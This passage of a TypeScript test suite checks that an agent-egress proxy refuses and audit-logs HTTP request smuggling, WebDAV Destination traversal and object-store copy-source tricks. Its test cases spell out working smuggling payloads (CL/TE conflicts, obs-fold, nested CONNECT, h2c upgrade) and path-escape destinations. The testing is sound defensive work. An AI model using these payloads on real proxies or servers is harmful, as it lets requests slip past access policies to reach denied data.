          const p = davClean(new URL(resolveRefs(r.url, refs), `http://x${root}`).pathname);
          remember(refs, r.id, r.method.toUpperCase(), p);
          batchRan.push(`${r.method.toUpperCase()} ${p}`);
          return `${r.method} ${p} -> ${davFiles.get(p) ?? '404'}\n`;
        }).join('')
        : runBatch(body.toString('latin1'), String(req.headers['content-type']), root);
      return void res.writeHead(200, { 'content-type': 'text/plain', 'content-length': Buffer.byteLength(ran) }).end(ran);
    }
    // A path-style object store's copy (S3 CopyObject, GCS's XML API): the object the header names is read.
    // A rename (S3's RenameObject, Azure Data Lake's and Azure Files' rename) moves the object it names.
    const renamed = req.headers['x-amz-rename-source'] ?? req.headers['x-ms-rename-source'] ?? req.headers['x-ms-file-rename-source'];
    const copy = req.headers['x-amz-copy-source'] ?? req.headers['x-goog-copy-source'] ?? req.headers['x-ms-copy-source'] ?? renamed;
    if (req.method === 'PUT' && typeof copy === 'string') {
      // Azure's x-ms-copy-source is a URL it fetches (here: this server's own objects only).
      const from = davClean(/^https?:/i.test(copy) ? new URL(copy).pathname : `/${copy.split('?')[0]!.replace(/^\/+/, '')}`);
      if (davFiles.has(from) && renamed !== undefined) (davFiles.set(src, davFiles.get(from)!), davFiles.delete(from));
      return void (davFiles.has(from) || renamed !== undefined ? (davFiles.set(src, davFiles.get(from) ?? davFiles.get(src)!), res.writeHead(200).end()) : res.writeHead(404).end());
    }
    if (req.method === 'PUT') (davFiles.set(src, body.toString()), res.writeHead(201).end());
    else if (req.method === 'COPY' || req.method === 'MOVE') {
      // Go's url.Parse: a host only after `//`, a path taken as rooted.
      const m = /^(?:[a-z][a-z0-9+.-]*:)?(?:\/\/([^/?#]*))?([^?#]*)/i.exec(String(req.headers.destination ?? ''))!;
      if (m[1] !== undefined && m[1] !== req.headers.host) return void res.writeHead(502).end();
      const dest = { pathname: `/${m[2]}` };
      if (!davFiles.has(src)) return void res.writeHead(404).end();
      davFiles.set(davClean(dest.pathname), davFiles.get(src)!);
      if (req.method === 'MOVE') davFiles.delete(src);
      res.writeHead(201).end();
    } else res.writeHead(davFiles.has(src) ? 200 : 404).end(davFiles.get(src));
  },
});
// A small capture cap, so an upload streams past it (the body framing test).
const a = await startTestAirlock(t, {
  policy: 'strict', resolve: ['allowed.example=127.0.0.1', 'alias.example=127.0.0.1', 'raw.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${up.port}`, `127.0.0.1:${tlsUp.port}`, `127.0.0.1:${pyPort}`, `127.0.0.1:${cgiPort}`, `127.0.0.1:${dav.port}`, `127.0.0.1:${pyBatchPort}`], upstreamCa: [ca.files.cert], bodyCap: 2048,
});
const host = `allowed.example:${up.port}`;
const origin = `http://${host}`;
const auth = `Proxy-Authorization: ${a.auth}\r\n`;
/** A POST to the Python batch server (it reads bodies with the `email` package), forward or through a plain tunnel. */
const postToPyBatch = (path: string, type: string, body: string, tunnel: boolean): Promise<{ text: string }> => {
  const pHost = `allowed.example:${pyBatchPort}`;
  const head = `Content-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
  return tunnel
    ? rawToProxy(a.port, `CONNECT ${pHost} HTTP/1.1\r\nHost: ${pHost}\r\n${auth}\r\nPOST ${path} HTTP/1.1\r\nHost: ${pHost}\r\n${head}${body}`, { responses: 1 })
      .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
    : rawToProxy(a.port, `POST http://${pHost}${path} HTTP/1.1\r\nHost: ${pHost}\r\n${auth}${head}${body}`, { responses: 1 });
};
const smuggled = `GET ${origin}/deny/SMUGGLED HTTP/1.1\r\nHost: ${host}\r\n${auth}\r\n`;

/** The outcome every smuggling attempt must have: only refusals or a closed connection, nothing smuggled upstream. */
function assertNoSmuggle(tt: Test, name: string, text: string): void {
  const responses = parseResponses(text);
  for (const r of responses) if (r.status >= 400) tt.ok(isProblem(r), `${name}: ${r.status} is problem+json`);
  tt.notMatch(up.bytes(), /SMUGGLED/, `${name}: the smuggled request never reached the upstream`);
  tt.notMatch(tlsUp.bytes(), /SMUGGLED/, `${name}: nor the HTTPS upstream`);
}

const cases: Array<[string, string]> = [
  ['CL + TE', `POST ${origin}/ok HTTP/1.1\r\nHost: ${host}\r\n${auth}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`],
  ['TE + CL (reversed order)', `POST ${origin}/ok HTTP/1.1\r\nHost: ${host}\r\n${auth}Transfer-Encoding: chunked\r\nContent-Length: ${5 + smuggled.length}\r\n\r\n0\r\n\r\n${smuggled}`],
  ['duplicate Content-Length', `POST ${origin}/ok HTTP/1.1\r\nHost: ${host}\r\n${auth}Content-Length: 0\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`],
  ['Content-Length list', `POST ${origin}/ok HTTP/1.1\r\nHost: ${host}\r\n${auth}Content-Length: 0, ${smuggled.length}\r\n\r\n${smuggled}`],
  ['obs-fold on Transfer-Encoding', `POST ${origin}/ok HTTP/1.1\r\nHost: ${host}\r\n${auth}Content-Length: ${5 + smuggled.length}\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n${smuggled}`],
  ['obs-fold on Host', `GET ${origin}/ok HTTP/1.1\r\nHost: ${host}\r\n evil.example\r\n${auth}\r\n${smuggled}`],
  ['bare LF line endings', `POST ${origin}/ok HTTP/1.1\nHost: ${host}\n${auth.trim()}\nContent-Length: 0\nTransfer-Encoding: chunked\n\n0\n\n${smuggled}`],
  ['bare LF inside a header', `GET ${origin}/ok HTTP/1.1\r\nHost: ${host}\r\nX-Note: a\nTransfer-Encoding: chunked\r\n${auth}Content-Length: ${5 + smuggled.length}\r\n\r\n0\r\n\r\n${smuggled}`],
  ['Transfer-Encoding: chunked, identity', `POST ${origin}/ok HTTP/1.1\r\nHost: ${host}\r\n${auth}Transfer-Encoding: chunked, identity\r\nContent-Length: ${5 + smuggled.length}\r\n\r\n0\r\n\r\n${smuggled}`],
  ['Transfer-Encoding: identity, chunked (duplicate header)', `POST ${origin}/ok HTTP/1.1\r\nHost: ${host}\r\n${auth}Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\nContent-Length: ${5 + smuggled.length}\r\n\r\n0\r\n\r\n${smuggled}`],
  ['Transfer-Encoding: xchunked', `POST ${origin}/ok HTTP/1.1\r\nHost: ${host}\r\n${auth}Transfer-Encoding: xchunked\r\nContent-Length: ${5 + smuggled.length}\r\n\r\n0\r\n\r\n${smuggled}`],
  ['space before colon', `POST ${origin}/ok HTTP/1.1\r\nHost: ${host}\r\n${auth}Transfer-Encoding : chunked\r\nContent-Length: ${5 + smuggled.length}\r\n\r\n0\r\n\r\n${smuggled}`],
  ['chunk size overflow', `POST ${origin}/ok HTTP/1.1\r\nHost: ${host}\r\n${auth}Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF1\r\nx\r\n0\r\n\r\n${smuggled}`],
  ['NUL in header value', `GET ${origin}/ok HTTP/1.1\r\nHost: ${host}\r\nX-A: a\u0000b\r\n${auth}\r\n${smuggled}`],
];

t.test('framing attacks in forward mode: refused or closed, nothing smuggled', async (t) => {
  // Control: a well-framed POST with a body is forwarded, so the refusals below are about framing.
  const control = await rawToProxy(a.port, `POST ${origin}/ok HTTP/1.1\r\nHost: ${host}\r\n${auth}Content-Length: 5\r\n\r\nhello`, { responses: 1 });
  t.match(control.text, /^HTTP\/1\.1 200/, 'control: a well-framed request is forwarded');
  t.equal(up.received.at(-1)?.body.toString(), 'hello');
  for (const [name, bytes] of cases) {
    const r = await rawToProxy(a.port, bytes, { idleMs: 800 });
    t.comment(`${name}: ${parseResponses(r.text).map((x) => x.status).join(',') || (r.closed ? 'closed' : 'no answer')}`);
    assertNoSmuggle(t, name, r.text);
    t.ok(r.text === '' || /^HTTP\/1\.1 \d{3}/.test(r.text), `${name}: an HTTP answer or nothing (${JSON.stringify(r.text.slice(0, 30))})`);
    await assertRefusalsRecorded(t, name, r.text);
  }
});

/** Every refusal the parser made is in the audit log under the id its answer names, with the request line tried. */
async function assertRefusalsRecorded(tt: Test, name: string, text: string, agent?: string): Promise<void> {
  for (const resp of parseResponses(text).filter((x) => x.status === 400 || x.status === 431)) {
    const id = (JSON.parse(resp.body) as { request_id?: string }).request_id;
    tt.ok(id, `${name}: the refusal names its request id`);
    await a.airlock.audit.flush();
    const record = a.records.find((x) => x.id === id);
    tt.match(record, { outcome: 'rejected', status: resp.status }, `${name}: the refusal is in the audit log`);
    tt.match(record, { method: /^(GET|POST)$/, url: /^https?:\/\/allowed\.example:\d+\/ok$/ }, `${name}: with the request line tried`);
    if (agent) tt.equal(record?.agent, agent, `${name}: and the tunnel's agent`);
  }
}

t.test('framing attacks inside an intercepted HTTPS tunnel', async (t) => {
  const tHost = `allowed.example:${tlsUp.port}`;
  const tSmuggled = `GET /deny/SMUGGLED HTTP/1.1\r\nHost: ${tHost}\r\n\r\n`;
  const inTunnel: Array<[string, string]> = [
    ['CL + TE', `POST /ok HTTP/1.1\r\nHost: ${tHost}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${tSmuggled}`],
    ['duplicate Content-Length', `POST /ok HTTP/1.1\r\nHost: ${tHost}\r\nContent-Length: 0\r\nContent-Length: ${tSmuggled.length}\r\n\r\n${tSmuggled}`],
    ['chunked, identity', `POST /ok HTTP/1.1\r\nHost: ${tHost}\r\nTransfer-Encoding: chunked, identity\r\nContent-Length: ${5 + tSmuggled.length}\r\n\r\n0\r\n\r\n${tSmuggled}`],
  ];
  for (const [name, bytes] of inTunnel) {
    const s = await tlsTunnel(a.port, tHost, { auth: a.auth, ca: a.caPem });
    const r = await exchange(s, bytes, { idleMs: 800 });
    assertNoSmuggle(t, `tunnel ${name}`, r.text);
    await assertRefusalsRecorded(t, `tunnel ${name}`, r.text, a.agent);
  }
});

t.test('pipelined requests after a denied one are each decided (forward and in a tunnel)', async (t) => {
  const before = up.received.length;
  const pipelined = [`GET ${origin}/deny/SMUGGLED-1 HTTP/1.1\r\nHost: ${host}\r\n${auth}\r\n`, `GET ${origin}/ok-1 HTTP/1.1\r\nHost: ${host}\r\n${auth}\r\n`, `GET ${origin}/deny/SMUGGLED-2 HTTP/1.1\r\nHost: ${host}\r\n${auth}\r\n`].join('');
  const r = await rawToProxy(a.port, pipelined, { responses: 3 });
  const statuses = parseResponses(r.text).map((x) => x.status);
  t.equal(statuses[0], 403, 'the denied request is refused');
  t.ok(statuses.slice(1).every((s) => s === 200 || s === 403), `the rest are decided one by one (${statuses})`);
  if (statuses.length === 3) t.same(statuses, [403, 200, 403]);
  assertNoSmuggle(t, 'pipelined forward', r.text);

  const tHost = `allowed.example:${tlsUp.port}`;
  const s = await tlsTunnel(a.port, tHost, { auth: a.auth, ca: a.caPem });
  const tr = await exchange(s, [`GET /deny/SMUGGLED-3 HTTP/1.1\r\nHost: ${tHost}\r\n\r\n`, `GET /ok-2 HTTP/1.1\r\nHost: ${tHost}\r\n\r\n`, `GET /deny/SMUGGLED-4 HTTP/1.1\r\nHost: ${tHost}\r\n\r\n`].join(''), { responses: 3 });
  const ts = parseResponses(tr.text).map((x) => x.status);
  t.equal(ts[0], 403, 'in a tunnel: the denied request is refused');
  t.ok(ts.slice(1).every((x) => x === 200 || x === 403), `in a tunnel: the rest decided one by one (${ts})`);
  assertNoSmuggle(t, 'pipelined tunnel', tr.text);
  t.ok(up.received.length - before <= 1, 'at most the one allowed request reached the HTTP upstream');
});

t.test('bytes sent before the CONNECT reply are not a free pass', async (t) => {
  // The agent does not wait for "200 Connection Established": its first request rides in the same packet.
  const early = await rawToProxy(a.port, `CONNECT ${host} HTTP/1.1\r\nHost: ${host}\r\n${auth}\r\nGET /deny/SMUGGLED-early HTTP/1.1\r\nHost: ${host}\r\n\r\n`, { responses: 1 });
  const rest = parseResponses(early.text.replace(/^HTTP\/1\.1 200[^\r]*\r\n\r\n/, ''));
  t.equal(rest[0]?.status, 403, 'the early request is decided (and denied)');
  assertNoSmuggle(t, 'early bytes', early.text);
  // Early bytes after a CONNECT that is refused are never interpreted.
  const refused = await rawToProxy(a.port, `CONNECT 127.0.0.1:${a.port} HTTP/1.1\r\nHost: x\r\n${auth}\r\n${smuggled}`, { idleMs: 800 });
  t.equal(parseResponses(refused.text).length, 1, 'one refusal, nothing after it');
  assertNoSmuggle(t, 'early bytes after refused CONNECT', refused.text);
  // A CONNECT request with a body (Content-Length) does not turn its body into tunnel data unnoticed.
  const withBody = await rawToProxy(a.port, `CONNECT ${host} HTTP/1.1\r\nHost: ${host}\r\n${auth}Content-Length: ${smuggled.length}\r\n\r\n${smuggled}`, { idleMs: 1000 });
  assertNoSmuggle(t, 'CONNECT with a body', withBody.text);
});

t.test('Upgrade: h2c and HTTP/2 prior knowledge are never forwarded', async (t) => {
  const before = up.received.length;
  const h2c = await rawToProxy(a.port, `GET ${origin}/ok HTTP/1.1\r\nHost: ${host}\r\n${auth}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n`, { idleMs: 800 });
  const [res] = parseResponses(h2c.text);
  t.ok(res === undefined || (res.status >= 400 && isProblem(res)), `h2c upgrade refused (${res?.status ?? 'closed'})`);
  t.notMatch(h2c.text, /^HTTP\/1\.1 101/, 'no 101 Switching Protocols');
  const tHost = `allowed.example:${tlsUp.port}`;
  const s = await tlsTunnel(a.port, tHost, { auth: a.auth, ca: a.caPem });
  const inTunnel = await exchange(s, `GET /ok HTTP/1.1\r\nHost: ${tHost}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n`, { idleMs: 800 });
  t.notMatch(inTunnel.text, /^HTTP\/1\.1 101/, 'no 101 inside a tunnel');
  const preface = await rawToProxy(a.port, `CONNECT ${host} HTTP/1.1\r\nHost: ${host}\r\n${auth}\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`, { idleMs: 800 });
  t.notMatch(preface.text.replace(/^HTTP\/1\.1 200[^\r]*\r\n\r\n/, ''), /^HTTP\/1\.1 [23]/, 'HTTP/2 prior-knowledge preface in a tunnel is not served');
  // ALPN: a client that offers only h2 gets no session; HTTP/1.0 (curl --http1.0) and 1.1 are served.
  const h2only = await tlsTunnel(a.port, tHost, { auth: a.auth, ca: a.caPem, alpn: ['h2'] }).then((x) => x.alpnProtocol, (e: Error) => e.message);
  t.match(String(h2only), /no application protocol/, 'ALPN h2 alone: the handshake is refused');
  for (const flag of ['--http1.0', '--http2']) {
    const r = await curl(['-x', a.proxyUrl, '--cacert', a.caFile, flag, '-o', '/dev/null', '-w', '%{http_code}', `https://${tHost}/ok/alpn`]);
    t.equal(r.stdout, '200', `curl ${flag} over intercepted TLS: served (${r.stderr.trim().slice(0, 120)})`);
  }
  t.equal(up.received.length, before, 'the HTTP upstream received nothing');
  t.notMatch(up.bytes() + tlsUp.bytes(), /h2c|PRI \* HTTP\/2/, 'no upstream ever saw an h2c upgrade or an HTTP/2 preface');
  t.ok(net.isIP('127.0.0.1'));
});

t.test('a CONNECT inside a tunnel (plain and intercepted TLS) is refused with problem+json and recorded', async (t) => {
  const tHost = `allowed.example:${tlsUp.port}`;
  const nested = (target: string): string => `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\nGET /deny/SMUGGLED-nested HTTP/1.1\r\nHost: ${target}\r\n\r\n`;
  const inTls = await exchange(await tlsTunnel(a.port, tHost, { auth: a.auth, ca: a.caPem }), nested('evil.example:443'), { idleMs: 800 });
  const plain = await rawToProxy(a.port, `CONNECT ${host} HTTP/1.1\r\nHost: ${host}\r\n${auth}\r\n${nested(host)}`, { idleMs: 800 });
  for (const [name, text] of [['in TLS', inTls.text], ['in plain HTTP', plain.text.replace(/^HTTP\/1\.1 200[^\r]*\r\n\r\n/, '')]] as const) {
    const rs = parseResponses(text);
    t.equal(rs.length, 1, `${name}: one answer, nothing after it`);
    t.ok(rs[0]?.status === 400 && isProblem(rs[0]), `${name}: 400 problem+json (got ${rs[0]?.status})`);
    assertNoSmuggle(t, name, text);
  }
  await a.airlock.audit.flush();
  t.equal(a.records.filter((r) => r.method === 'CONNECT' && (r.url === 'evil.example:443' || r.url === host) && r.outcome === 'rejected' && r.agent === 'attacker').length, 2, 'both are in the audit log');
});

t.test('Airlock frames every body it forwards: a GET, HEAD, DELETE or OPTIONS body never reaches the upstream as a second request', async (t) => {
  // Node's HTTP client sends the body of a GET/HEAD/DELETE/OPTIONS that has no Content-Length
  // unframed after the head: a body the agent sent chunked (Transfer-Encoding is hop-by-hop), or
  // one a stage rewrites (a secret stored anywhere guards every body), was read by the upstream as
  // the next request on the connection, undecided and unaudited. With a secret stored, Airlock b
  // rewrites bodies; Airlock a does not; both capture 2 KiB, so a longer body streams.
  const b = await startTestAirlock(t, {
    policy: 'strict', resolve: ['allowed.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${up.port}`, `127.0.0.1:${pyPort}`], bodyCap: 2048,
    secrets: { other_key: 'sk_other_0123456789abcdef' },
  });
  const inner = `GET /deny/SMUGGLED-body HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
  let n = 0;
  const send = (port: number, auth: string, method: string, framing: 'chunked' | 'length', parts: Buffer[]): Promise<number> => new Promise((resolve, reject) => {
    const body = Buffer.concat(parts);
    const headers: Record<string, string> = { host, 'proxy-authorization': auth, ...(framing === 'chunked' ? { 'transfer-encoding': 'chunked' } : { 'content-length': String(body.length) }) };
    const req = http.request({ host: '127.0.0.1', port, method, path: `${origin}/ok/${++n}`, headers, agent: false, setHost: false });
    req.setTimeout(10_000, () => req.destroy(new Error('client timeout')));
    req.on('error', reject);
    req.on('response', (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode ?? 0));
    });
    for (const p of parts) req.write(p);
    req.end();
  });
  await fc.assert(fc.asyncProperty(
    fc.record({
      via: fc.constantFrom('plain', 'rewritten'),
      method: fc.constantFrom('GET', 'HEAD', 'DELETE', 'OPTIONS', 'GET', 'DELETE', 'POST', 'PUT'),
      framing: fc.constantFrom('chunked', 'length') as fc.Arbitrary<'chunked' | 'length'>,
      pad: fc.constantFrom(0, 40, 3000, 9000),
      cuts: fc.array(fc.integer({ min: 1, max: 4000 }), { maxLength: 3 }),
    }),
    async (c) => {
      const body = Buffer.from(inner + 'x'.repeat(c.pad));
      const at = [...new Set(c.cuts.map((k) => k % body.length))].sort((x, y) => x - y).filter((k) => k > 0);
      const parts = [0, ...at].map((k, i) => body.subarray(k, at[i] ?? body.length));
      const target = c.via === 'plain' ? a : b;
      const before = up.received.length;
      const status = await send(target.port, target.auth, c.method, c.framing, parts);
      const got = up.received.slice(before);
      // A body held whole (within the cap) arrives with its length, also when the body guard read it
      // (a server that reads only Content-Length, Python's http.server, S3, got it empty when chunked).
      // So does one the agent sent with a length, past the cap: the guard only looks at it (S3 answers a chunked PUT 411).
      const framed = (body.length > 2048 && c.framing === 'chunked') || (got[0]?.headers['content-length'] === String(body.length) && got[0]?.headers['transfer-encoding'] === undefined);
      return status === 200 && got.length === 1 && got[0]!.method === c.method && got[0]!.url === `/ok/${n}` && got[0]!.body.equals(body) && framed;
    },
  ), { numRuns, ...seed });
  // A length with leading zeros (llhttp takes it) goes on without them: strtol with base 0 reads "0…" as octal.
  const padded = 'z'.repeat(3000);
  const zeros = await rawToProxy(a.port, `PUT ${origin}/ok/zeros HTTP/1.1\r\nHost: ${host}\r\nProxy-Authorization: ${a.auth}\r\nContent-Length: 0003000\r\n\r\n${padded}`, { responses: 1 });
  if (parseResponses(zeros.text)[0]?.status === 200) t.equal(up.received.at(-1)?.rawHeaders[up.received.at(-1)!.rawHeaders.findIndex((h) => h.toLowerCase() === 'content-length') + 1], '3000', 'the length arrives without leading zeros');
  else t.match(zeros.text, /^HTTP\/1\.1 400/, 'or the parser refused it');
  // Real clients: curl's DELETE and GET with a body, through the Airlock that rewrites bodies.
  for (const method of ['DELETE', 'GET']) {
    const before = up.received.length;
    const r = await curl(['-x', b.proxyUrl, '-X', method, '--data-binary', inner, '-H', 'content-type: text/plain', '-o', '/dev/null', '-w', '%{http_code}', `${origin}/ok/curl`]);
    t.equal(r.stdout, '200', `curl ${method} with a body is forwarded`);
    const got = up.received.slice(before);
    t.same(got.map((x) => [x.method, x.body.toString()]), [[method, inner]], `curl ${method}: one request upstream, its body whole`);
  }
  // Python's http.server reads a body by its Content-Length only: the guarded JSON POST carries one.
  const py = await curl(['-x', b.proxyUrl, '-H', 'content-type: application/json', '--data', '{"name":"x"}', '-o', '/dev/null', '-w', '%{http_code}', `http://allowed.example:${pyPort}/ok/guarded-json`]);
  t.equal(py.stdout, '200', 'curl POST through the guarding Airlock to Python: 200');
  await new Promise((r) => setTimeout(r, 200));
  t.match(pyLog, /POST \/ok\/guarded-json \S+ te=None cl=12\n/, 'Python read it with its Content-Length, not chunked');
  t.notOk(up.received.some((x) => x.url.startsWith('/deny')), 'no body was ever read upstream as a request of its own');
});

t.test('an expectation other than 100-continue is a recorded 417 problem+json, forward and in a tunnel; nothing is forwarded', async (t) => {
  const before = up.received.length;
  const tHost = `allowed.example:${tlsUp.port}`;
  const forward = await rawToProxy(a.port, `POST ${origin}/ok/expect HTTP/1.1\r\nHost: ${host}\r\n${auth}Expect: x-carry-on\r\nContent-Length: 2\r\n\r\nhi`, { responses: 1 });
  const tunneled = await exchange(await tlsTunnel(a.port, tHost, { auth: a.auth, ca: a.caPem }), `POST /ok/expect HTTP/1.1\r\nHost: ${tHost}\r\nExpect: x-more\r\nContent-Length: 2\r\n\r\nhi`, { responses: 1 });
  for (const [name, text] of [['forward', forward.text], ['tunnel', tunneled.text]] as const) {
    const [res] = parseResponses(text);
    t.ok(res?.status === 417 && isProblem(res), `${name}: 417 problem+json (got ${res?.status})`);
  }
  t.equal(up.received.length, before, 'the upstream received nothing');
  t.notMatch(up.bytes() + tlsUp.bytes(), /\/ok\/expect/, 'no upstream saw the request');
  await a.airlock.audit.flush();
  t.equal(a.records.filter((r) => r.url?.includes('/ok/expect') && r.status === 417).length, 2, 'both are in the audit log');
  // 100-continue itself still works (curl sends it for larger bodies).
  const ok = await rawToProxy(a.port, `POST ${origin}/ok/continue HTTP/1.1\r\nHost: ${host}\r\n${auth}Expect: 100-continue\r\nContent-Length: 2\r\n\r\nhi`, { responses: 2 });
  t.match(ok.text, /^HTTP\/1\.1 100 Continue\r\n\r\nHTTP\/1\.1 200/, '100-continue: 100, then the answer');
});

t.test('property: a request transfer coding other than chunked (gzip, chunked) is a recorded 501 problem+json, forward and in a tunnel; nothing is forwarded', async (t) => {
  // Node's parser undoes the chunking only: `Transfer-Encoding: gzip, chunked` left gzip on the
  // body, Transfer-Encoding is hop-by-hop, so the upstream got the coded bytes under no label while
  // the policy judged them as the JSON body the agent declared (RFC 9112 §6.1: 501).
  const tHost = `allowed.example:${tlsUp.port}`;
  const body = '{"note":"hello"}';
  const chunked = `${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;
  const ok = await rawToProxy(a.port, `POST ${origin}/ok/te-control HTTP/1.1\r\nHost: ${host}\r\n${auth}Transfer-Encoding: chunked\r\n\r\n${chunked}`, { responses: 1 });
  t.match(ok.text, /^HTTP\/1\.1 200/, 'control: chunked alone is forwarded');
  t.equal(up.received.at(-1)?.body.toString(), body, 'control: the upstream got the body');
  let n = 0;
  await fc.assert(fc.asyncProperty(
    fc.record({
      coding: fc.constantFrom('gzip', 'x-gzip', 'deflate', 'compress', 'br', 'zstd', 'identity', 'x-custom'),
      upper: fc.boolean(),
      layout: fc.constantFrom('list', 'two headers', 'list with blanks'),
      tunnel: fc.boolean(),
    }),
    async ({ coding, upper, layout, tunnel }) => {
      const id = `te-${++n}`;
      const c = upper ? coding.toUpperCase() : coding;
      const te = layout === 'two headers' ? `Transfer-Encoding: ${c}\r\nTransfer-Encoding: chunked\r\n` : layout === 'list' ? `Transfer-Encoding: ${c}, chunked\r\n` : `Transfer-Encoding: ${c} ,  chunked\r\n`;
      const before = up.received.length + tlsUp.received.length;
      const r = tunnel
        ? await exchange(await tlsTunnel(a.port, tHost, { auth: a.auth, ca: a.caPem }), `POST /ok/${id} HTTP/1.1\r\nHost: ${tHost}\r\nContent-Type: application/json\r\n${te}\r\n${chunked}`, { responses: 1 })
        : await rawToProxy(a.port, `POST ${origin}/ok/${id} HTTP/1.1\r\nHost: ${host}\r\n${auth}Content-Type: application/json\r\n${te}\r\n${chunked}`, { responses: 1 });
      const [res] = parseResponses(r.text);
      const rec = a.records.find((x) => x.url?.endsWith(`/ok/${id}`));
      return res?.status === 501 && isProblem(res) && up.received.length + tlsUp.received.length === before && rec?.status === 501 && rec.outcome === 'rejected';
    },
  ), { numRuns: Math.min(numRuns, 12), ...seed });
  t.notMatch(up.bytes() + tlsUp.bytes(), /\/ok\/te-\d/, 'no upstream saw any of them');
});

t.test('property: a WebDAV COPY or MOVE writes where its Destination names only if the policy lets a write there: denied, refused or held like a PUT to it', async (t) => {
  // `COPY /ok/dav/a.txt` with `Destination: /deny/…` was allowed (the policy judged /ok) and the
  // server (Go's golang.org/x/net/webdav, mod_dav, nginx dav, SabreDAV) wrote under /deny, where a
  // PUT is denied. The destination is now decided as a PUT there; the stricter decision stands.
  const dHost = `allowed.example:${dav.port}`;
  const send = (method: string, dest: string, opts: { tunnel?: boolean; name?: string } = {}): Promise<{ text: string }> => {
    const head = `${opts.name ?? 'Destination'}: ${dest}\r\n`;
    return opts.tunnel
      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\n${method} /ok/dav/a.txt HTTP/1.1\r\nHost: ${dHost}\r\n${head}\r\n`, { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, `${method} http://${dHost}/ok/dav/a.txt HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}\r\n`, { responses: 1 });
  };
  const copied = await send('COPY', `http://${dHost}/ok/dav/b.txt`);
  t.match(copied.text, /^HTTP\/1\.1 201/, 'control: a COPY within what the policy allows is forwarded');
  t.equal(davFiles.get('/ok/dav/b.txt'), 'hello', 'control: the server copied it');
  let n = 0;
  await fc.assert(fc.asyncProperty(
    fc.record({
      method: fc.constantFrom('COPY', 'MOVE'),
      spelling: fc.constantFrom('url', 'path', 'case and trailing dot', 'dot segments', 'escaped letter', 'encoded slash', 'other host', 'two headers', 'relative', 'scheme without host', 'network path'),
      name: fc.constantFrom('Destination', 'destination', 'DESTINATION'),
      tunnel: fc.boolean(),
    }),
    async ({ method, spelling, name, tunnel }) => {
      const file = `/deny/dav-${++n}.txt`;
      const dest = {
        url: `http://${dHost}${file}`, path: file, 'case and trailing dot': `http://ALLOWED.Example.:${dav.port}${file}`,
        'dot segments': `/ok/dav/../../deny/dav-${n}.txt`, 'escaped letter': `/%64eny/dav-${n}.txt`, 'encoded slash': `/ok/..%2fdeny/dav-${n}.txt`,
        'other host': `http://127.0.0.1:${dav.port}${file}`, 'two headers': `/ok/dav/c.txt\r\n${name}: ${file}`,
        // Go roots a reference without a leading slash (`deny/x` is /deny/x to it), and takes `http:/deny/x` as that path.
        relative: file.slice(1), 'scheme without host': `http:${file}`, 'network path': `//${dHost}${file}`,
      }[spelling];
      const r = await send(method, dest, { tunnel, name });
      const [res] = parseResponses(r.text);
      davFiles.set('/ok/dav/a.txt', 'hello'); // a MOVE that went through took it away
      return res !== undefined && [400, 403, 421].includes(res.status) && isProblem(res) && ![...davFiles.keys()].some((k) => k.startsWith('/deny/dav-'));
    },
  ), { numRuns: Math.min(numRuns, 16), ...seed });
  // A real client: curl -X MOVE.
  const c = await curl(['-x', a.proxyUrl, '-X', 'MOVE', '-H', 'Destination: /deny/curl.txt', '-o', '/dev/null', '-w', '%{http_code}', `http://${dHost}/ok/dav/a.txt`]);
  t.equal(c.stdout, '403', 'curl -X MOVE into /deny: 403');
  t.same([...davFiles.keys()].filter((k) => k.startsWith('/deny') && k !== '/deny/secret.txt'), [], 'nothing was ever written under /deny');
  await a.airlock.audit.flush();
  t.ok(a.records.some((r) => r.method === 'MOVE' && r.status === 403 && r.decision?.rule === 'deny-path' && /Destination \/deny\/curl\.txt/.test(r.decision.reason ?? '')), 'the record names the destination\'s rule and reason');
});

t.test('property: an object store copy (x-amz-copy-source, x-goog-copy-source, x-ms-copy-source) or rename reads its source only if the policy lets a GET of it through (and a rename only if a DELETE there)', async (t) => {
  // `PUT /ok/bucket/x` with `x-goog-copy-source: /deny/secret.txt` was judged as a write under /ok;
  // the store read /deny/secret.txt (a GET the policy denies) and the agent then read the copy.
  const dHost = `allowed.example:${dav.port}`;
  const put = (name: string, source: string, tunnel: boolean, to: string): Promise<{ text: string }> => tunnel
    ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPUT ${to} HTTP/1.1\r\nHost: ${dHost}\r\n${name}: ${source}\r\nContent-Length: 0\r\n\r\n`, { responses: 1 })
      .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
    : rawToProxy(a.port, `PUT http://${dHost}${to} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${name}: ${source}\r\nContent-Length: 0\r\n\r\n`, { responses: 1 });
  t.match((await put('x-amz-copy-source', '/ok/dav/a.txt', false, '/ok/bucket/copy-control')).text, /^HTTP\/1\.1 200/, 'control: a copy of an object the policy lets be read goes through');
  t.equal(davFiles.get('/ok/bucket/copy-control'), 'hello', 'control: the store copied it');
